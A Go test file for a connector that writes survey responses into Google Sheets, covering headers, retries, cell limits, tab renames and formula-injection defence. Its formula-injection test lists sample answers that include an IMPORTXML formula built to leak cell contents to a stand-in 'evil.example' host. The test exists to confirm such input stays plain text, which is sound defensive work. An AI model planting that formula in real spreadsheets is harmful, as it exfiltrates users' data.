package sheets_test

import (
	"context"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"google.golang.org/api/option"
	gsheets "google.golang.org/api/sheets/v4"

	"github.com/surveysync/surveysync/connectors"
	"github.com/surveysync/surveysync/sandbox/fault"
	emu "github.com/surveysync/surveysync/sandbox/sheetsapi"
)

// ops lists the operations of the emulator's log, in order. Date format
// requests (a batchUpdate of repeatCell requests, sent after appends) are
// left out: they are cosmetic and not part of the delivery protocol.
func ops(log []emu.LogEntry) []string {
	var out []string
	for _, e := range withoutFormats(log) {
		out = append(out, e.Operation)
	}
	return out
}

// withoutFormats drops the date format requests.
func withoutFormats(log []emu.LogEntry) []emu.LogEntry {
	var out []emu.LogEntry
	for _, e := range log {
		if isFormatRequest(e) {
			continue
		}
		out = append(out, e)
	}
	return out
}

func isFormatRequest(e emu.LogEntry) bool {
	if e.Operation != emu.OpBatchUpdate || len(e.Requests) == 0 {
		return false
	}
	for _, r := range e.Requests {
		if r != "repeatCell" {
			return false
		}
	}
	return true
}

func countOps(log []emu.LogEntry, op string) int {
	n := 0
	for _, e := range log {
		if e.Operation == op {
			n++
		}
	}
	return n
}

func TestDeliverCreatesTabWithHeader(t *testing.T) {
	t.Parallel()
	e := newEnv(t, emu.Options{})
	d := e.dest(t, e.config())
	m := mustMapping(t, testMapping)
	res := d.Deliver(context.Background(), batchOf(m,
		item(t, m, 1, "r1", `{"rating": 5, "promoter": true, "comment": "great"}`),
		item(t, m, 2, "r2", `{"rating": 3}`),
	))
	want := []connectors.Result{{Ref: "'Responses'!A2:E2"}, {Ref: "'Responses'!A3:E3"}}
	if diff := cmp.Diff(want, res); diff != "" {
		t.Fatalf("results (-want +got):\n%s", diff)
	}
	serial := 46143.5
	wantVals := [][]any{
		{"Response ID", "Submitted", "Rating", "Promoter", "Comment"},
		{"r1", serial, 5.0, true, "great"},
		{"r2", serial, 3.0},
	}
	if diff := cmp.Diff(wantVals, e.values("Responses")); diff != "" {
		t.Errorf("tab (-want +got):\n%s", diff)
	}
	// The first batch creates the tab and writes its header; then one
	// header read and one append per batch.
	log := e.srv.Log()
	if got := countOps(log, emu.OpValuesAppend); got != 1 {
		t.Errorf("%d appends, want 1: %v", got, ops(log))
	}
	if got := countOps(log, emu.OpValuesUpdate); got != 1 {
		t.Errorf("%d value updates (the header), want 1: %v", got, ops(log))
	}
	e.srv.ResetLog()
	d.Deliver(context.Background(), batchOf(m, item(t, m, 3, "r3", `{"rating": 1}`)))
	if diff := cmp.Diff([]string{emu.OpGet, emu.OpValuesAppend}, ops(e.srv.Log())); diff != "" {
		t.Errorf("second batch requests (-want +got):\n%s", diff)
	}
}

func TestDeliverMatchesHeadersByName(t *testing.T) {
	t.Parallel()
	e := newEnv(t, emu.Options{}, "Responses")
	// People reordered the columns, added their own and wrote in them.
	must(t, e.srv.SetRow(e.id, "Responses", 0, []any{"Owner", "Comment", "Rating", "Notes", "Response ID", "Promoter", "Submitted"}))
	must(t, e.srv.SetRow(e.id, "Responses", 1, []any{"ann", "old", 2.0, "keep me", "r0", false, 1.0}))
	d := e.dest(t, e.config())
	m := mustMapping(t, testMapping)
	res := d.Deliver(context.Background(), batchOf(m, item(t, m, 1, "r1", `{"rating": 4, "promoter": true, "comment": "fine"}`)))
	if res[0].Err != nil || res[0].Ref != "'Responses'!A3:G3" {
		t.Fatalf("result = %+v", res[0])
	}
	want := [][]any{
		{"Owner", "Comment", "Rating", "Notes", "Response ID", "Promoter", "Submitted"},
		{"ann", "old", 2.0, "keep me", "r0", false, 1.0},
		{"", "fine", 4.0, "", "r1", true, 46143.5},
	}
	if diff := cmp.Diff(want, e.values("Responses")); diff != "" {
		t.Errorf("tab (-want +got):\n%s", diff)
	}
}

func TestDeliverPausesOnHeaderDrift(t *testing.T) {
	t.Parallel()
	m := mustMapping(t, testMapping)
	tests := []struct {
		name   string
		header []any
		want   string
	}{
		{"missing", []any{"Response ID", "Submitted", "Promoter", "Comment"},
			`tab "Responses" has no column "Rating" in row 1; add it back or set append_missing_headers: true`},
		{"renamed", []any{"Response ID", "Submitted", "Score", "Promoter", "Comment"},
			`tab "Responses" has no column "Rating" in row 1`},
		{"duplicated", []any{"Response ID", "Submitted", "Rating", "Promoter", "Comment", "Rating"},
			`tab "Responses" has column "Rating" more than once in row 1 (columns C and F)`},
		{"header row deleted", []any{}, `row 1 of tab "Responses" is empty but row 2 holds data`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			e := newEnv(t, emu.Options{}, "Responses")
			must(t, e.srv.SetRow(e.id, "Responses", 0, tt.header))
			must(t, e.srv.SetRow(e.id, "Responses", 1, []any{"r0"}))
			d := e.dest(t, e.config())
			res := d.Deliver(context.Background(), batchOf(m, item(t, m, 1, "r1", `{"rating": 4}`), item(t, m, 2, "r2", `{"rating": 5}`)))
			for _, r := range res {
				if errClass(r) != connectors.ClassPaused || !strings.Contains(r.Err.Error(), tt.want) {
					t.Fatalf("result = %v, want paused with %q", r.Err, tt.want)
				}
			}
			if n := countOps(e.srv.Log(), emu.OpValuesAppend); n != 0 {
				t.Errorf("%d appends to a drifted tab", n)
			}
			if err := d.Probe(context.Background(), "s", m); err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("probe = %v, want %q", err, tt.want)
			}
			// Fixing the header lets the probe and the next batch through.
			must(t, e.srv.SetRow(e.id, "Responses", 0, []any{"Response ID", "Submitted", "Rating", "Promoter", "Comment"}))
			if err := d.Probe(context.Background(), "s", m); err != nil {
				t.Errorf("probe after the fix = %v", err)
			}
			res = d.Deliver(context.Background(), batchOf(m, item(t, m, 1, "r1", `{"rating": 4}`)))
			if res[0].Err != nil {
				t.Errorf("after the fix: %v", res[0].Err)
			}
		})
	}
}

func TestDeliverAppendsMissingHeaders(t *testing.T) {
	t.Parallel()
	e := newEnv(t, emu.Options{}, "Responses")
	must(t, e.srv.SetGridSize(e.id, "Responses", 100, 3))
	must(t, e.srv.SetRow(e.id, "Responses", 0, []any{"Response ID", "Notes", "Rating"}))
	cfg := e.config()
	cfg.AppendMissingHeaders = true
	d := e.dest(t, cfg)
	m := mustMapping(t, testMapping)
	res := d.Deliver(context.Background(), batchOf(m, item(t, m, 1, "r1", `{"rating": 4, "promoter": false, "comment": "ok"}`)))
	if res[0].Err != nil {
		t.Fatal(res[0].Err)
	}
	want := [][]any{
		{"Response ID", "Notes", "Rating", "Submitted", "Promoter", "Comment"},
		{"r1", "", 4.0, 46143.5, false, "ok"},
	}
	if diff := cmp.Diff(want, e.values("Responses")); diff != "" {
		t.Errorf("tab (-want +got):\n%s", diff)
	}
}

func TestDeliverReconcilesUncertainItems(t *testing.T) {
	t.Parallel()
	e := newEnv(t, emu.Options{})
	d := e.dest(t, e.config())
	m := mustMapping(t, testMapping)
	// An earlier process appended r1 and r2 and died before settling.
	if res := d.Deliver(context.Background(), batchOf(m, item(t, m, 1, "r1", `{"rating": 1}`), item(t, m, 2, "r2", `{"rating": 2}`))); res[0].Err != nil {
		t.Fatal(res[0].Err)
	}
	e.srv.ResetLog()
	fresh := e.dest(t, e.config()) // a new process knows nothing
	items := []*connectors.Item{
		item(t, m, 1, "r1", `{"rating": 1}`),
		item(t, m, 2, "r2", `{"rating": 2}`),
		item(t, m, 3, "r3", `{"rating": 3}`),
		item(t, m, 4, "r4", `{"rating": 4}`),
	}
	items[0].Uncertain, items[1].Uncertain, items[2].Uncertain = true, true, true
	res := fresh.Deliver(context.Background(), batchOf(m, items...))
	want := []connectors.Result{{Ref: "'Responses'!A2:E2"}, {Ref: "'Responses'!A3:E3"}, {Ref: "'Responses'!A4:E4"}, {Ref: "'Responses'!A5:E5"}}
	if diff := cmp.Diff(want, res); diff != "" {
		t.Errorf("results (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff(map[string]int{"r1": 1, "r2": 1, "r3": 1, "r4": 1}, readTable(e.values("Responses")).keyCounts("Response ID")); diff != "" {
		t.Errorf("keys (-want +got):\n%s", diff)
	}
	// The key column is read (whole, after a restart) before the append.
	if diff := cmp.Diff([]string{emu.OpGet, emu.OpGet, emu.OpValuesGet, emu.OpValuesAppend}, ops(e.srv.Log())); diff != "" {
		t.Errorf("requests (-want +got):\n%s", diff)
	}
	if got := withoutFormats(e.srv.Log())[2].Range; got != "'Responses'!A2:A" {
		t.Errorf("key read range = %q, want the whole key column", got)
	}
}

// TestUnknownOutcomeNotResentEarly: an append answered 500 may still be
// applied by Google; its rows are not re-sent while reconcile_after runs,
// however often the key column comes back without them, and other rows
// flow meanwhile. A new process, which does not know when it was sent,
// re-sends after its key read.
func TestUnknownOutcomeNotResentEarly(t *testing.T) {
	t.Parallel()
	faults := fault.New(fault.Config{Rate5xx: 1, Seed: 1})
	e := newEnv(t, emu.Options{Faults: faults}, "Responses")
	must(t, e.srv.SetRow(e.id, "Responses", 0, []any{"Response ID", "Submitted", "Rating", "Promoter", "Comment"}))
	cfg := e.config()
	cfg.ReconcileAfter = time.Hour
	d := e.dest(t, cfg)
	m := mustMapping(t, testMapping)

	a := item(t, m, 1, "a", `{"rating": 1}`)
	res := d.Deliver(context.Background(), batchOf(m, a))
	if errClass(res[0]) != connectors.ClassAmbiguous {
		t.Fatalf("append answered 500: %v, want ambiguous", res[0].Err)
	}
	faults.Set(fault.Config{})
	a.Uncertain = true
	for range 2 {
		res = d.Deliver(context.Background(), batchOf(m, a, item(t, m, 2, "b", `{"rating": 2}`)))
		if errClass(res[0]) != connectors.ClassAmbiguous || !strings.Contains(res[0].Err.Error(), "may still be applied") {
			t.Fatalf("uncertain row within reconcile_after: %v", res[0].Err)
		}
	}
	if diff := cmp.Diff(map[string]int{"b": 1}, readTable(e.values("Responses")).keyCounts("Response ID")); diff != "" {
		t.Fatalf("keys (-want +got):\n%s", diff)
	}
	if blind := emu.BlindAppendRetries(e.srv.Log()); len(blind) > 0 {
		t.Fatalf("blind append after the 500: %+v", blind[0])
	}

	res = e.dest(t, cfg).Deliver(context.Background(), batchOf(m, a))
	if res[0].Err != nil {
		t.Fatalf("after a restart: %v", res[0].Err)
	}
	if diff := cmp.Diff(map[string]int{"a": 1, "b": 1}, readTable(e.values("Responses")).keyCounts("Response ID")); diff != "" {
		t.Errorf("keys (-want +got):\n%s", diff)
	}
}

func TestDeliverRedeliveryUpdatesInPlace(t *testing.T) {
	t.Parallel()
	e := newEnv(t, emu.Options{}, "Responses")
	must(t, e.srv.SetRow(e.id, "Responses", 0, []any{"Response ID", "Submitted", "Rating", "Promoter", "Comment", "Owner"}))
	d := e.dest(t, e.config())
	m := mustMapping(t, testMapping)
	d.Deliver(context.Background(), batchOf(m,
		item(t, m, 1, "r1", `{"rating": 1, "comment": "one"}`),
		item(t, m, 2, "r2", `{"rating": 2, "comment": "two"}`),
		item(t, m, 3, "r3", `{"rating": 3, "comment": "three"}`)))
	must(t, e.srv.SetRow(e.id, "Responses", 2, []any{"r2", 46143.5, 2.0, "", "two", "bob"})) // someone took ownership
	e.srv.ResetLog()
	v2 := item(t, m, 2, "r2", `{"rating": 5, "promoter": true}`)
	v2.Version = 2
	res := d.Deliver(context.Background(), batchOf(m, v2))
	if res[0].Err != nil || res[0].Ref != "'Responses'!A3:E3" {
		t.Fatalf("result = %+v", res[0])
	}
	want := [][]any{
		{"Response ID", "Submitted", "Rating", "Promoter", "Comment", "Owner"},
		{"r1", 46143.5, 1.0, "", "one"},
		{"r2", 46143.5, 5.0, true, "", "bob"},
		{"r3", 46143.5, 3.0, "", "three"},
	}
	// The emulator shows an unwritten cell as "" where later cells exist.
	got := e.values("Responses")
	for _, r := range got {
		for i, v := range r {
			if v == nil {
				r[i] = ""
			}
		}
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("tab (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff([]string{emu.OpGet, emu.OpValuesGet, emu.OpValuesBatchUpd}, ops(e.srv.Log())); diff != "" {
		t.Errorf("requests (-want +got):\n%s", diff)
	}
}

// formulaLike are survey answers that spreadsheet programs would run as
// formulas if they were typed in.
var formulaLike = []string{
	`=IMPORTXML("https://evil.example/?leak="&A1, "//a")`,
	`=HYPERLINK("https://evil.example", "click")`,
	"+1", "-2", "@x", "\t=1+2", "\r=1+2", "\n=1", "\x00=1+2", "=1+2", "0001", "TRUE", "2024-05-01", "'quoted",
}

// readFormulas reads a tab with valueRenderOption=FORMULA through the real
// client.
func readFormulas(t *testing.T, e *env, rng string) [][]any {
	t.Helper()
	svc, err := gsheets.NewService(context.Background(), option.WithEndpoint(e.url), option.WithoutAuthentication())
	if err != nil {
		t.Fatal(err)
	}
	vr, err := svc.Spreadsheets.Values.Get(e.id, rng).ValueRenderOption("FORMULA").Do()
	if err != nil {
		t.Fatal(err)
	}
	return vr.Values
}

func TestFormulaInjectionStaysText(t *testing.T) {
	t.Parallel()
	for _, userEntered := range []bool{false, true} {
		t.Run(fmt.Sprintf("user_entered column %v", userEntered), func(t *testing.T) {
			t.Parallel()
			e := newEnv(t, emu.Options{})
			src := "sheet: Comments\nkey: ID\ncolumns:\n  ID: \"{{ key }}\"\n  Comment: \"{{ comment }}\"\n"
			if userEntered {
				src += "  Link: {value: \"=HYPERLINK(\\\"https://app.example.com/r/{{ key }}\\\", \\\"open\\\")\", input: user_entered}\n"
			}
			m := mustMapping(t, src)
			var items []*connectors.Item
			for i, s := range formulaLike {
				payload, _ := jsonMarshal(map[string]string{"comment": s})
				items = append(items, item(t, m, int64(i+1), fmt.Sprintf("k%02d", i), string(payload)))
			}
			d := e.dest(t, e.config())
			for _, r := range d.Deliver(context.Background(), batchOf(m, items...)) {
				if r.Err != nil {
					t.Fatal(r.Err)
				}
			}
			got := readFormulas(t, e, "'Comments'!A2:B")
			for i, s := range formulaLike {
				if got[i][1] != s {
					t.Errorf("comment %q read back with FORMULA as %q", s, got[i][1])
				}
				if e.srv.IsFormula(e.id, "Comments", i+1, 1) {
					t.Errorf("comment %q is stored as a formula", s)
				}
				wantInput := "RAW"
				if userEntered {
					wantInput = "USER_ENTERED"
					if !e.srv.IsFormula(e.id, "Comments", i+1, 2) {
						t.Errorf("the user_entered Link column of row %d is not a formula: %v", i+2, got[i])
					}
				}
				if in := e.srv.InputOption(e.id, "Comments", i+1, 1); in != wantInput {
					t.Errorf("comment %q written %s, want %s", s, in, wantInput)
				}
			}
		})
	}
}

func TestDeliverSplitsByBytes(t *testing.T) {
	t.Parallel()
	e := newEnv(t, emu.Options{})
	cfg := e.config()
	cfg.BatchBytes = 1 << 10
	d := e.dest(t, cfg)
	m := mustMapping(t, testMapping)
	var items []*connectors.Item
	for i := range 20 {
		items = append(items, item(t, m, int64(i+1), fmt.Sprintf("r%02d", i), fmt.Sprintf(`{"rating": 1, "comment": %q}`, strings.Repeat("x", 150))))
	}
	res := d.Deliver(context.Background(), batchOf(m, items...))
	for i, r := range res {
		if want := fmt.Sprintf("'Responses'!A%d:E%d", i+2, i+2); r.Err != nil || r.Ref != want {
			t.Fatalf("result %d = %+v, want %s", i, r, want)
		}
	}
	if n := countOps(e.srv.Log(), emu.OpValuesAppend); n < 4 {
		t.Errorf("%d appends for 20 rows of ~200 bytes under batch_bytes 1KB, want at least 4", n)
	}
	tb := readTable(e.values("Responses"))
	for i, r := range tb.rows {
		if r["Response ID"] != fmt.Sprintf("r%02d", i) {
			t.Fatalf("row %d holds %v: order not kept", i+2, r["Response ID"])
		}
	}
}

func TestDeliverPausesBeforeCellLimit(t *testing.T) {
	t.Parallel()
	e := newEnv(t, emu.Options{}, "Responses")
	must(t, e.srv.SetGridSize(e.id, "Responses", 10, 5))
	cfg := e.config()
	cfg.CellLimit = 10*5 + 5*5 // room for five more rows of five columns
	d := e.dest(t, cfg)
	m := mustMapping(t, testMapping)
	var items []*connectors.Item
	for i := range 8 {
		items = append(items, item(t, m, int64(i+1), fmt.Sprintf("r%d", i), `{"rating": 1}`))
	}
	if res := d.Deliver(context.Background(), batchOf(m, items[:5]...)); res[0].Err != nil {
		t.Fatalf("first five rows: %v", res[0].Err)
	}
	res := d.Deliver(context.Background(), batchOf(m, items[5:]...))
	for _, r := range res {
		if errClass(r) != connectors.ClassPaused || !strings.Contains(r.Err.Error(), "above the limit of 75 cells") {
			t.Fatalf("result = %v, want paused before the cell limit", r.Err)
		}
	}
	for _, l := range withoutFormats(e.srv.Log()) {
		if l.Status >= 400 {
			t.Errorf("Google was asked to go over the limit: %+v", l)
		}
	}
	if err := d.Probe(context.Background(), "s", m); err == nil {
		t.Error("probe passes while the workbook is full")
	}
}

func TestTabRenamedIsFollowed(t *testing.T) {
	t.Parallel()
	e := newEnv(t, emu.Options{})
	d := e.dest(t, e.config())
	m := mustMapping(t, testMapping)
	d.Deliver(context.Background(), batchOf(m, item(t, m, 1, "r1", `{"rating": 1}`)))
	must(t, e.srv.RenameSheet(e.id, "Responses", "Responses (2026)"))
	res := d.Deliver(context.Background(), batchOf(m, item(t, m, 2, "r2", `{"rating": 2}`)))
	if res[0].Err != nil || res[0].Ref != "'Responses (2026)'!A3:E3" {
		t.Fatalf("result after rename = %+v", res[0])
	}
	if got := readTable(e.values("Responses (2026)")).keyCounts("Response ID"); len(got) != 2 {
		t.Errorf("renamed tab holds %v", got)
	}
	if e.values("Responses") != nil {
		t.Error("a new tab named Responses was created")
	}

	// Deleted: the destination pauses, and resumes once a tab of that name
	// is back.
	must(t, e.srv.DeleteSheet(e.id, "Responses (2026)"))
	res = d.Deliver(context.Background(), batchOf(m, item(t, m, 3, "r3", `{"rating": 3}`)))
	if errClass(res[0]) != connectors.ClassPaused || !strings.Contains(res[0].Err.Error(), "was deleted") {
		t.Fatalf("result after delete = %v", res[0].Err)
	}
	if _, err := gsheetsAddTab(e, "Responses"); err != nil {
		t.Fatal(err)
	}
	if err := d.Probe(context.Background(), "s", m); err != nil {
		t.Errorf("probe after the tab is back: %v", err)
	}
	if res = d.Deliver(context.Background(), batchOf(m, item(t, m, 3, "r3", `{"rating": 3}`))); res[0].Err != nil {
		t.Errorf("after the tab is back: %v", res[0].Err)
	}
}

// writeCells writes one row of cells as a person would (RAW, "" empties a
// cell).
func writeCells(t *testing.T, e *env, rng string, row []any) {
	t.Helper()
	svc, err := gsheets.NewService(context.Background(), option.WithEndpoint(e.url), option.WithoutAuthentication())
	if err != nil {
		t.Fatal(err)
	}
	if _, err := svc.Spreadsheets.Values.Update(e.id, rng, &gsheets.ValueRange{Values: [][]any{row}}).ValueInputOption("RAW").Do(); err != nil {
		t.Fatal(err)
	}
}

// gsheetsAddTab adds a tab as a person would.
func gsheetsAddTab(e *env, title string) (*gsheets.BatchUpdateSpreadsheetResponse, error) {
	svc, err := gsheets.NewService(context.Background(), option.WithEndpoint(e.url), option.WithoutAuthentication())
	if err != nil {
		return nil, err
	}
	return svc.Spreadsheets.BatchUpdate(e.id, &gsheets.BatchUpdateSpreadsheetRequest{Requests: []*gsheets.Request{
		{AddSheet: &gsheets.AddSheetRequest{Properties: &gsheets.SheetProperties{Title: title}}},
	}}).Do()
}

func TestRenamedWhileDownFoundByHeaders(t *testing.T) {
	t.Parallel()
	e := newEnv(t, emu.Options{}, "Sheet1", "CSAT 2026")
	must(t, e.srv.SetRow(e.id, "CSAT 2026", 0, []any{"Response ID", "Submitted", "Rating", "Promoter", "Comment"}))
	d := e.dest(t, e.config())
	m := mustMapping(t, testMapping)
	res := d.Deliver(context.Background(), batchOf(m, item(t, m, 1, "r1", `{"rating": 1}`)))
	if res[0].Err != nil || res[0].Ref != "'CSAT 2026'!A2:E2" {
		t.Fatalf("result = %+v", res[0])
	}
}

func must(t testing.TB, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}
